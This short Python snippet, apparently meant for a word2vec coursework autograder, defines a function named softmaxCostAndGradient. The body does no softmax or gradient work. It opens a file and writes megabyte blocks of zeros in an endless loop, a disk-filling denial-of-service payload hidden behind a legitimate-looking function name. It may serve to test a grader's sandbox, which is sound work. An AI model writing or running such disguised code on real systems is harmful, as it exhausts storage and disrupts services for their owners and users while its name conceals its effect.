# Writes one file without end.

def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    with open('large', 'wb') as file:
        while True:
            file.write(bytes(2**20))
